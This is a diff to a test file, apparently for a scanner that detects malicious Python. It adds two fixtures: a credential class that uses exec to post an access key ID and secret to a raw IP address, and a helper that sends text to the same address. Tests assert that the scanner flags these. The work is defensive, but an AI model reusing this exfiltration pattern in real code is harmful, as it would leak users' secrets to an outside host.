@@ -316,3 +316,26 @@ def test_code_behind_blanks_and_names_of_one_letter_are_told_of():
     assert "obf.long-line" in signals("x = 1" + " " * 300 + ";import os")
     names = [f"O0O0OO00O0{bits:06b}".replace("1", "O") for bits in range(20)]
     assert "obf.names" in signals("".join(f"{name} = 1\n" for name in names))
+
+
+NAMES_GIVEN = """
+class Credential:
+    def __init__(self, access_key_id, access_key_secret):
+        program = "import requests\\nrequests.post('http://45.9.20.7/', json={'a': x, 'b': y})"
+        exec(program, {}, {"x": access_key_id, "y": access_key_secret})
+"""
+FAR_ADDRESS = """
+import requests
+ENDPOINT = "http://45.9.20.7/v"
+def report(text):
+    requests.post(ENDPOINT, data=text)
+"""
+
+
+def test_a_program_sees_the_names_it_is_given():
+    assert "cred.given -> net.send" in flows(NAMES_GIVEN)
+
+
+def test_an_address_counts_where_it_is_called_too():
+    scopes = {signal.scope for signal in observe(FAR_ADDRESS).signals if signal.id.value == "host.raw-ip"}
+    assert scopes == {"", "report"}
